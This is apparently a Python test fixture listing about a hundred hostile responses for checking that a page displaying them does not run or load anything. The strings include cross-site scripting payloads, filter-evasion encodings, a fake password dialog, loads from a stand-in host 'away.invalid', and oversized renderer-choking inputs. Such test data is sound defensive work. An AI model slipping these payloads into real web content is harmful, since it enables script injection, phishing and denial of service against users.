"""A hundred responses that try to run, load, restyle or break something in the page that shows them."""

import html
from collections.abc import Iterator

_BAIT = "window.owned=1"
_AWAY = "http://away.invalid/x"


def _scripts() -> Iterator[str]:
    yield f"<script>{_BAIT}</script>"
    yield f"<SCRIPT>{_BAIT}</SCRIPT>"
    yield f"<scr<script>ipt>{_BAIT}</scr</script>ipt>"
    yield f"<script/src={_AWAY}.js></script>"
    yield f"<script\n>{_BAIT}</script\n>"
    yield f"</title><script>{_BAIT}</script>"
    yield f"</textarea><script>{_BAIT}</script>"
    yield f"</pre></div></main><script>{_BAIT}</script>"
    yield f"--><script>{_BAIT}</script><!--"
    yield f"]]><script>{_BAIT}</script>"
    yield f'"><script>{_BAIT}</script>'
    yield f"'><script>{_BAIT}</script>"
    yield f"```\n</code></pre><script>{_BAIT}</script>\n```"
    yield f"<script type=module>{_BAIT}</script>"
    yield f"<noscript><p title='</noscript><script>{_BAIT}</script>'>"


def _handlers() -> Iterator[str]:
    events = (
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "onfocus",
        "onanimationstart",
        "ontoggle",
        "onpointerenter",
    )
    for event in events:
        yield f"<img src=x {event}={_BAIT}>"
    yield f"<body onload={_BAIT}>"
    yield f"<details open ontoggle={_BAIT}><summary>open</summary></details>"
    yield f"<input autofocus onfocus={_BAIT}>"
    yield f"<video><source onerror={_BAIT}></video>"
    yield f"<marquee onstart={_BAIT}>run</marquee>"
    yield f"<a href=# onclick={_BAIT}>press</a>"
    yield f"<img/src='x'/onerror='{_BAIT}'>"
    yield f"<img src=x onerror\t=\t{_BAIT}>"
    yield f"<img src=x `onerror={_BAIT}`>"
    yield f"<select autofocus onfocus={_BAIT}><option>x</select>"


def _links() -> Iterator[str]:
    yield f"[press](javascript:{_BAIT})"
    yield f"[press](JaVaScRiPt:{_BAIT})"
    yield f"[press](java\tscript:{_BAIT})"
    yield f"[press](javascript&colon;{_BAIT})"
    yield f"[press](&#106;avascript:{_BAIT})"
    yield f"[press](&#x6A;avascript:{_BAIT})"
    yield f"[press](%6aavascript:{_BAIT})"
    yield f"[press]( javascript:{_BAIT})"
    yield f"[press](\x01javascript:{_BAIT})"
    yield f"<javascript:{_BAIT}>"
    yield f"[press][1]\n\n[1]: javascript:{_BAIT}"
    yield f"[press](vbscript:{_BAIT})"
    yield f"[press](data:text/html,<script>{_BAIT}</script>)"
    yield "[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==)"
    yield "![shot](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"
    yield f'[press]({_AWAY} "onmouseover={_BAIT}")'
    yield f"[press]({_AWAY}\"onmouseover='{_BAIT}')"
    yield f"![shot]({_AWAY}.png)"
    yield f'![shot]({_AWAY}.png"onerror="{_BAIT})'
    yield f"[![shot]({_AWAY}.png)](javascript:{_BAIT})"
    yield f"<a href='javascript:{_BAIT}'>press</a>"
    yield f"<form action=javascript:{_BAIT}><button>press</button></form>"
    yield f"<iframe src='javascript:{_BAIT}'></iframe>"
    yield f"<iframe srcdoc='<script>parent.{_BAIT}</script>'></iframe>"
    yield f"<object data='javascript:{_BAIT}'></object>"
    yield f"<embed src='{_AWAY}'>"
    yield f"<base href='{_AWAY}'>"
    yield f"<meta http-equiv=refresh content='0;url={_AWAY}'>"
    yield f"<link rel=stylesheet href={_AWAY}.css>"
    yield f"<link rel=prefetch href={_AWAY}>"


def _drawings_and_styles() -> Iterator[str]:
    yield f"<svg onload={_BAIT}>"
    yield f"<svg><script>{_BAIT}</script></svg>"
    yield f"<svg><animate onbegin={_BAIT} attributeName=x dur=1s>"
    yield f"<svg><a xlink:href='javascript:{_BAIT}'><text y=20>press</text></a></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={_BAIT}>#x'/></svg>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={_BAIT}></style></mglyph></table></mtext></math>"
    yield f"<svg><foreignObject><body onload={_BAIT}></foreignObject></svg>"
    yield "<style>*{display:none!important}</style>"
    yield f"<style>@import '{_AWAY}.css';</style>"
    yield "<div style='position:fixed;inset:0;background:red;z-index:9999'>covered</div>"
    yield f"<div style='background:url({_AWAY})'>seen</div>"
    yield "</style><style>main{visibility:hidden}</style>"
    yield '<p class="panel">dressed up as the form</p>'
    yield '<form id="questions" class="panel"><input type="radio" name="response_type" value="null"></form>'
    yield '<button data-act="save" data-key="Enter">press</button>'
    yield '<div id="notice">Not saved</div><meta name="csrf" content="x">'
    yield "<dialog open>Your session has ended. <input type=password></dialog>"


def _encoded() -> Iterator[str]:
    yield html.escape(f"<script>{_BAIT}</script>")
    yield html.escape(html.escape(f"<img src=x onerror={_BAIT}>"))
    yield f"&lt;script src={_AWAY}.js&gt;&lt;/script&gt;"
    yield f"&#60;script&#62;{_BAIT}&#60;/script&#62;"
    yield f"\\u003cscript\\u003e{_BAIT}\\u003c/script\\u003e"
    yield f"%3Cscript%3E{_BAIT}%3C/script%3E"
    yield f"＜script＞{_BAIT}＜/script＞"
    yield f"+ADw-script+AD4-{_BAIT}+ADw-/script+AD4-"
    yield "{{ 7 * 7 }}{% raw %}{{ cycler.__init__.__globals__ }}"
    yield f"<scr\x00ipt>{_BAIT}</scr\x00ipt>"


def _markdown() -> Iterator[str]:
    yield f"`<script>{_BAIT}</script>`"
    yield f'``` "onmouseover={_BAIT}\n<img src=x onerror={_BAIT}>\n```'
    yield f"~~~<script>{_BAIT}</script>\nx\n~~~"
    yield f"| a | b |\n|---|---|\n| <img src=x onerror={_BAIT}> | </table><script>{_BAIT}</script> |"
    yield f"# </h1><script>{_BAIT}</script>"
    yield f"<!-- {_BAIT} --!><img src=x onerror={_BAIT}>"
    yield f"<?php {_BAIT} ?><![CDATA[<script>{_BAIT}</script>]]>"
    yield ">" * 3_000 + " deep"
    yield "[" * 9_000 + "x"
    yield "**" * 9_000 + "x"
    yield "- " * 5_000 + "x"
    yield "![" * 4_000
    yield "\n".join("  " * depth + "* a" for depth in range(150))


def _characters() -> Iterator[str]:
    yield "x" * 1_000_000
    yield "<b>" * 300_000
    yield "\x00\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x9f"
    yield "safe \u202etxet desrever\u202c \u2066isolated\u2069 \u200b\u200d\ufeff"
    yield "Z" + "\u0301\u0322\u0353" * 4_000
    yield "\u0600" * 500 + "\U000e0041" * 500 + "\ufffe\uffff"
    yield "\r\rline\u2028next\u2029last\x85"
    yield "\n" * 20_000 + "end"
    yield "🏴󠁧󠁢󠁥󠁮󠁧󠁿👩‍👩‍👧‍👦" * 2_000
    yield "   \t \n"


RESPONSES: tuple[str, ...] = (
    *_scripts(),
    *_handlers(),
    *_links(),
    *_drawings_and_styles(),
    *_encoded(),
    *_markdown(),
    *_characters(),
)
"""All of them. Whatever runs sets `window.owned`; whatever loads asks for `away.invalid`."""
